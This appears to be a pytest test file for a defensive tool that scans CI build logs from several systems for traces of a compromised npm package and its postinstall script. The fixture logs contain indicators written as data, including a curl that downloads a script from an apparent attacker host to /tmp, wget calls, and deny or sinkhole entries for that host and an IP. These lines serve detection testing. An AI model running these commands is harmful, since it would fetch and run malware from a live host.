"""Logs of builds from outside: systems, clients, controls, and what cannot be read."""

import gzip
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.hunt.asked import Asked
from customhouse.hunt.logs.hunting import hunt_logs
from customhouse.hunt.logs.systems.circleci import lines_of
from customhouse.hunt.logs.systems.recognition import system_of
from customhouse.hunt.notes import Notebook
from customhouse.hunt.streams.interface import CutError
from hunt.recorded import AXIOS, BOTH, LITELLM, ONLY_NPM, SHA1, graded, told

AT = datetime(2026, 3, 31, 0, 22, 3, tzinfo=UTC)

GITHUB = (
    "2026-03-31T00:21:58.4092421Z Current runner version: '2.320.0'\n"
    "2026-03-31T00:21:58.5092421Z Complete job name: build (20)\n"
    "2026-03-31T00:21:59.4092421Z Syncing repository: acme/shop\n"
    "2026-03-31T00:22:00.4092421Z ##[group]Run npm ci\n"
    "2026-03-31T00:22:03.0000000Z \x1b[90m> plain-crypto-js@\x1b[39m4.2.1 postinstall\n"
)
GITHUB_TABS = (
    "build\tRun npm ci\t\ufeff2026-03-31T00:22:01.4092421Z > node\n"
    "build\tRun npm ci\t2026-03-31T00:22:03.0000000Z > plain-crypto-js@4.2.1 postinstall\n"
)
GITLAB = (
    "Running with gitlab-runner 16.9.0 (656c1943)\n"
    "Reinitialized existing Git repository in /builds/acme/shop/.git/\n"
    'section_start:1774916523:step_script\r\x1b[0K\x1b[0KExecuting "step_script"\n'
    "> plain-crypto-js@4.2.1 postinstall\n"
)
GITLAB_STAMPED = (
    "2026-03-31T00:22:00.100000Z 00O Running with gitlab-runner 17.0\n"
    "2026-03-31T00:22:03.000000Z 01O > plain-crypto-js@4.2.1 postinstall\n"
)
JENKINS = (
    "Started by user admin\nRunning on agent-1 in /var/jenkins/workspace/shop/main\n"
    "[2026-03-31T00:22:01.000Z] [Pipeline] { (Install)\n"
    "[2026-03-31T00:22:03.000Z] > plain-crypto-js@4.2.1 postinstall\n"
)
JENKINS_LOCAL = "Started by timer\n2026-03-31 00:22:03  > plain-crypto-js@4.2.1 postinstall\n"
AZURE = (
    "2026-03-31T00:22:00.0000000Z ##[section]Starting: Install\n"
    "2026-03-31T00:22:03.0000000Z > plain-crypto-js@4.2.1 postinstall\n"
)
BUILDKIT = (
    "#11 [build 2/5] COPY . .\n#12 [build 3/5] RUN npm ci\n#12 0.312 npm warn\n"
    "#12 3.456 > plain-crypto-js@4.2.1 postinstall\n"
)
CIRCLECI = json.dumps(
    [
        {"message": "#!/bin/bash\r\nnpm ci\r\n", "time": "2026-03-31T00:22:01Z", "type": "out", "truncated": False},
        {"message": "x\r\n> plain-crypto-js@4.2.1 postinstall\r\n", "time": "2026-03-31T00:22:03Z", "type": "out"},
    ]
)
PLAIN = "hello\nthere\n> plain-crypto-js@4.2.1 postinstall\n"

#: Kind, text, line, asset ({} for the path), step, whether the time is sure (None: there is none).
SYSTEMS = [
    ("GitHub Actions log", GITHUB, 5, "acme/shop: build (20)", "npm ci", True),
    ("GitHub Actions log", GITHUB_TABS, 2, "{} (build)", "Run npm ci", True),
    ("GitLab CI log", GITLAB, 4, "acme/shop", "step_script", True),
    ("GitLab CI log", GITLAB_STAMPED, 2, "{}", "", True),
    ("Jenkins log", JENKINS, 4, "shop/main", "Install", True),
    ("Jenkins log", JENKINS_LOCAL, 2, "{}", "", False),
    ("Azure DevOps log", AZURE, 2, "{}", "Install", True),
    ("BuildKit log", BUILDKIT, 4, "{}", "[build 3/5] RUN npm ci", None),
    ("CircleCI step output", CIRCLECI, None, "{}", "", True),
    ("log", PLAIN, 3, "{}", "", None),
]


@pytest.mark.parametrize(("kind", "text", "line", "asset", "step", "sure"), SYSTEMS)
def test_each_system_tells_where_and_when(tmp_path, kind, text, line, asset, step, sure):
    path = tmp_path / "a.txt"
    path.write_text(text, newline="")
    notes = told(hunt_logs, path)
    (hit,) = notes.hits
    assert (hit.grade, hit.subject, hit.area, hit.campaign) == (
        "script-ran", "pkg:npm/plain-crypto-js@4.2.1", "log", "axios-2026-03"
    )  # fmt: skip
    assert (hit.place.path, hit.place.line) == (str(path), line)
    assert hit.asset == asset.format(path)
    assert (step in hit.message) if step else ("(in" not in hit.message)
    assert hit.excerpt == "> plain-crypto-js@4.2.1 postinstall"
    if sure is None:
        assert hit.when is None
    else:
        assert (hit.when.at, hit.when.doubtful) == (AT, not sure)
    (looked,) = notes.places
    assert (looked.kind, looked.asset) == (kind, hit.asset)
    assert dict(looked.counts)["lines"] > 0
    assert notes.left_out == []


def test_an_archive_of_a_run_names_the_job_of_each_step(tmp_path):
    path = tmp_path / "logs_1.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("build/1_Set up job.txt", GITHUB.partition("\n")[0])
        archive.writestr("build/4_Run npm ci.txt", GITHUB.replace("Complete job name", "x"))
        archive.writestr("0_build.txt", GITHUB_TABS.replace("build\tRun npm ci\t", ""))
    notes = told(hunt_logs, path)
    assert {(hit.place.member, hit.asset) for hit in notes.hits} == {
        ("build/4_Run npm ci.txt", "acme/shop: build"),
        ("0_build.txt", f"{path} (build)"),
    }
    assert len(notes.places) == 3


def test_every_grade_is_told_and_facts_of_the_network_are_contacts(tmp_path):
    path = tmp_path / "ci.log"
    path.write_text(
        "$ npm install axios@1.14.1\n"
        "npm silly placeDep ROOT axios@1.14.1 OK\n"
        "npm http fetch GET 200 https://registry.example/axios/-/axios-1.14.1.tgz 3ms\n"
        "> plain-crypto-js@4.2.1 postinstall\n"
        "curl hxxp://sfrclak[.]com:8000/6202033 -o /tmp/ld.py\n"
        f"shasum {SHA1}\n"
        "X-Filename: tpcp.tar.gz\n"
        "axios@1.14.10 and axios@1.14.0 are others; notsfrclak.com too\n"
    )
    notes = told(hunt_logs, path)
    assert graded(notes) == sorted(
        [
            ("contacted", "http://sfrclak.com:8000/6202033"),
            ("contacted", "sfrclak.com"),
            ("declared", "pkg:npm/axios@1.14.1"),
            ("fetched", SHA1),
            ("fetched", "pkg:npm/axios@1.14.1"),
            ("resolved", "pkg:npm/axios@1.14.1"),
            ("script-ran", "/tmp/ld.py"),
            ("script-ran", "X-Filename: tpcp.tar.gz"),
            ("script-ran", "pkg:npm/plain-crypto-js@4.2.1"),
        ]
    )
    assert all(hit.place.line <= 7 for hit in notes.hits)


@pytest.mark.parametrize(
    ("line", "grade"),
    [
        ("# blocked by proxy since 2026-03-31: sfrclak.com", "declared"),
        ("2026-03-31T00:22:03.0000000Z ; deny http://sfrclak.com:8000/6202033", "declared"),
        ("// sinkholed: 142.11.206.73", "declared"),
        # A call that was refused was a call, and so is one that root typed.
        ("proxy: CONNECT sfrclak.com:8000 blocked", "contacted"),
        ("##[error] blocked: sfrclak.com:8000", "contacted"),
        ("# curl http://sfrclak.com:8000/6202033: blocked by proxy", "contacted"),
        ("# sudo wget sfrclak.com blocked", "contacted"),
        ("# the first call went to sfrclak.com", "contacted"),
    ],
)
def test_a_list_of_what_is_blocked_is_no_call(tmp_path, line, grade):
    path = tmp_path / "build.log"
    path.write_text(f"begin\n{line}\nend\n")
    found = told(hunt_logs, path, ONLY_NPM).hits
    assert {hit.grade for hit in found} == {grade}
    assert all(hit.confidence == "low" for hit in found if grade == "declared")


@pytest.mark.parametrize(
    ("text", "asked", "control"),
    [
        ("added 112 packages in 3s\n", ONLY_NPM, False),
        (
            "npm http fetch GET 200 https://registry.example/a/-/a-1.0.0.tgz 3ms\nadded 112 packages in 3s\n",
            ONLY_NPM,
            True,
        ),
        ("Collecting click\nSuccessfully installed click-8.1.7\n", ONLY_NPM, False),
        ("Collecting click\nSuccessfully installed click-8.1.7\n", BOTH, True),
        ("Collecting click\nadded 112 packages in 3s\n", BOTH, False),
        ("Collecting click\n", Asked((LITELLM,)), True),
        ("Progress: resolved 3, reused 3\n", ONLY_NPM, False),
        ("make: nothing to be done\n", BOTH, False),
        ("make: nothing to be done\n", Asked(()), None),
    ],
)
def test_the_positive_control(tmp_path, text, asked, control):
    path = tmp_path / "ci.log"
    path.write_text(text)
    (looked,) = told(hunt_logs, path, asked).places
    assert looked.control is control
    assert bool(looked.note) is (control is False)


def test_progress_lines_show_the_part_that_counts(tmp_path):
    path = tmp_path / "ci.log"
    path.write_bytes(b"2026-03-31T00:22:03Z  10%\r 50%\r + litellm==1.82.8\r\nnext\r\n")
    (hit,) = told(hunt_logs, path).hits
    assert (hit.excerpt, hit.grade, hit.place.line, hit.when.at) == ("+ litellm==1.82.8", "fetched", 1, AT)


def test_a_cut_log_counts_as_far_as_it_goes(tmp_path):
    path = tmp_path / "ci.log.gz"
    path.write_bytes(gzip.compress(GITHUB.encode())[:-8])
    notes = told(hunt_logs, path)
    assert [hit.grade for hit in notes.hits] == ["script-ran"]
    assert dict(notes.places[0].counts)["lines"] == 5
    assert [each.serious for each in notes.left_out] == [True]


def test_garbage_is_left_out_and_told(tmp_path):
    (tmp_path / "core").write_bytes(bytes(range(256)) * 64)
    (tmp_path / "ok.log").write_text(PLAIN)
    notes = told(hunt_logs, tmp_path)
    assert len(notes.hits) == 1
    assert [each.path for each in notes.left_out] == [str(tmp_path / "core")]
    assert [looked.path for looked in notes.places] == [str(tmp_path / "ok.log")]


def test_an_empty_log_was_looked_at(tmp_path):
    path = tmp_path / "ci.log"
    path.write_bytes(b"")
    (looked,) = told(hunt_logs, path).places
    assert dict(looked.counts) == {"lines": 0, "bytes": 0}


def test_a_window_leaves_out_what_is_surely_outside(tmp_path):
    path = tmp_path / "ci.log"
    path.write_text(GITHUB + JENKINS_LOCAL)
    asked = Asked((AXIOS,), since=datetime(2026, 4, 1, tzinfo=UTC))
    notes = told(hunt_logs, path, asked)
    assert [hit.when.doubtful for hit in notes.hits] == [True]
    assert dict(notes.places[0].counts)["hits outside the window"] == 1


def test_a_flood_of_hits_is_counted(tmp_path):
    path = tmp_path / "ci.log"
    path.write_text("GET http://sfrclak.com/\n" * 5000)
    notes = told(hunt_logs, path)
    assert len(notes.hits) == 50
    assert dict(notes.places[0].counts) == {"lines": 5000, "bytes": 120000, "hits": 5000, "hits not listed": 4950}


def test_secrets_do_not_reach_the_excerpt(tmp_path):
    path = tmp_path / "ci.log"
    path.write_text(
        "curl -H 'Authorization: Bearer SECRETVALUE' http://sfrclak.com/?token=SECRETVALUE //r.example/:_authToken=SECRETVALUE\n"
    )
    (hit,) = told(hunt_logs, path).hits
    assert "SECRETVALUE" not in hit.excerpt
    assert "sfrclak.com" in hit.excerpt


def test_messages_are_cut_anywhere():
    data = CIRCLECI.encode()
    whole = b"".join(lines_of(iter([data])))
    assert whole.count(b"\n") == 4
    for step in (1, 7, 64):
        assert b"".join(lines_of(data[at : at + step] for at in range(0, len(data), step))) == whole
    with pytest.raises(CutError):
        list(lines_of(iter([data[:-10]])))


@given(st.sampled_from([text for _, text, *_ in SYSTEMS]), st.text(max_size=40), st.integers(0, 300))
def test_no_line_makes_a_system_fail(text, junk, at):
    broken = text[:at] + junk + text[at:]
    system = system_of(broken)
    for line in broken.split("\n"):
        system.mark(line)
        said = system.line(line)
        assert isinstance(said.text, str)
        assert isinstance(system.job + system.step, str)


def test_a_folder_of_many_is_read_in_parts_that_do_not_disturb_each_other(tmp_path):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("x.txt", PLAIN)
    (tmp_path / "1.zip").write_bytes(data.getvalue())
    (tmp_path / "2.txt").write_text(GITLAB, newline="")
    (tmp_path / "3.txt").write_text(PLAIN)
    notes = told(hunt_logs, tmp_path)
    assert [hit.asset for hit in notes.hits] == [f"{tmp_path}/1.zip!x.txt", "acme/shop", f"{tmp_path}/3.txt"]


def test_a_script_of_another_version_is_none_of_the_affected(tmp_path):
    """pnpm names the version in the folder, and the package again before the script's name."""
    log = tmp_path / "build.log"
    log.write_text(
        "node_modules/.pnpm/plain-crypto-js@4.2.0/node_modules/plain-crypto-js postinstall$ node setup.js\n"
        "node_modules/.pnpm/plain-crypto-js@4.2.1/node_modules/plain-crypto-js postinstall$ node setup.js\n"
    )
    notes = Notebook()
    hunt_logs([log], Asked([AXIOS]), notes)
    assert [(hit.subject, hit.grade, hit.place.line) for hit in notes.hits] == [
        ("pkg:npm/plain-crypto-js@4.2.1", "script-ran", 2)
    ]
